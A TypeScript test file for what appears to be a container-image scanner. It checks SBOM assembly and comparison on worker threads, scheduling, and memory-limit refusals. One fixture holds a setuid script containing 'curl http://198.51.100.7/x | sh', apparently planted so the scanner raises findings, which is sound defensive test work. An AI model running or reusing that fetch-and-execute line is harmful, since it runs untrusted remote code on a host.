import { analyzeLayer, encodeFacts } from '@tidewaiter/analyzers';
import { encodeEntries } from '@tidewaiter/oci';
import { type TarEntry, tarArchive } from '@tidewaiter/testkit';

import { type AssemblyInput, assembleImage } from './image-assembly.js';
import { ImageThreads } from './image-threads.js';
import { compareDocument } from './sbom-document.js';

const version = 'test';
const options = { isInspected: true };

async function inputOf(...layers: TarEntry[][]): Promise<AssemblyInput> {
  const read = layers.map(async (files, index) => {
    const blob = async function* () {
      yield tarArchive(files);
    };
    const { diffId, entries, facts } = await analyzeLayer(blob, {
      mediaType: 'application/vnd.oci.image.layer.v1.tar',
      ...options,
    });
    return {
      ...{ index, digest: diffId, diffId, mediaType: 'm', sizeBytes: 1_000_000, analyzersVersion: version },
      entries: Buffer.concat([...encodeEntries(entries.pages())]),
      facts: encodeFacts(facts),
      entryCount: entries.length,
    };
  });
  return { layers: await Promise.all(read), labels: {}, version, options };
}

const manyFiles = Array.from({ length: 31_000 }, (_, index) => ({ path: `data/${index % 100}/${index}`, content: '' }));
const distribution = [
  { path: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' },
  { path: 'usr/bin/run', content: '#!/bin/sh\ncurl http://198.51.100.7/x | sh\n', mode: 0o4755 },
];
const packages = ['left', 'right'].map((name) => ({
  path: `app/node_modules/${name}/package.json`,
  content: JSON.stringify({ name, version: '1.0.0' }),
}));

describe('ImageThreads', () => {
  it('assembles a large image as a small one, without stopping the process', async () => {
    const input = await inputOf([...distribution, ...manyFiles], [...packages, { path: 'data/.wh.7', content: '' }]);
    const expected = assembleImage(input);
    expect(expected.packages).toHaveLength(2);
    expect(expected.findings).not.toHaveLength(0);

    const threads = new ImageThreads();
    let turns = 0;
    const others = setInterval(() => (turns += 1), 1);
    const { files, ...assembly } = await threads.assemble(input);
    clearInterval(others);
    expect(assembly).toEqual({ ...expected, files: undefined });
    // Its seed is random.
    expect(files).toHaveLength(expected.files.length);
    // A thread takes some hundred milliseconds.
    expect(turns).toBeGreaterThan(20);
    await threads.onApplicationShutdown();
  });

  it('compares a large SBOM as a small one, without stopping the process', async () => {
    const components = Array.from({ length: 20_000 }, (_, index) => ({
      ...{ type: 'library', name: `package-${index}`, version: '1.0.0' },
      purl: `pkg:npm/package-${index}@1.0.0`,
    }));
    const content = Buffer.from(JSON.stringify({ bomFormat: 'CycloneDX', specVersion: '1.6', components }));
    const threads = new ImageThreads();
    let turns = 0;
    const others = setInterval(() => (turns += 1), 1);
    const compared = await threads.compare({ content, packages: [] });
    clearInterval(others);
    expect(compared).toEqual(compareDocument({ content, packages: [] }));
    expect(turns).toBeGreaterThan(20);
    expect(await threads.compare({ content: Buffer.alloc(1 << 20, '['), packages: [] })).toMatchObject({
      problem: expect.stringContaining('JSON') as string,
    });
    await threads.onApplicationShutdown();
  });

  it('assembles a usual image while one with many entries is assembled', async () => {
    const usual = await inputOf(distribution, manyFiles);
    const layers = Array.from({ length: 12 }, () => usual.layers[1]!);
    const large = { ...usual, layers: [usual.layers[0]!, ...layers] };
    const threads = new ImageThreads();
    const ended: string[] = [];
    await Promise.all([
      threads.assemble(large).then(() => ended.push('large')),
      threads.assemble(large).then(() => ended.push('large')),
      threads.assemble(usual).then(() => ended.push('usual')),
    ]);
    expect(ended).toEqual(['usual', 'large', 'large']);
    await threads.onApplicationShutdown();
  });

  it('refuses an image that takes too much memory, and assembles the next one', async () => {
    const input = await inputOf(distribution, manyFiles);
    const limited = new ImageThreads(8);
    const refusal = { code: 'LIMIT_EXCEEDED', limit: 'maxHeapMegabytes' };
    for (let tries = 0; tries < 2; tries += 1) await expect(limited.assemble(input)).rejects.toMatchObject(refusal);
    const threads = new ImageThreads();
    const [large, small] = await Promise.all([threads.assemble(input), threads.assemble(await inputOf(packages))]);
    expect(large.os?.id).toBe('debian');
    expect(small.packages.map(({ name }) => name)).toEqual(['left', 'right']);
    await Promise.all([limited, threads].map(async (each) => each.onApplicationShutdown()));
  });
});
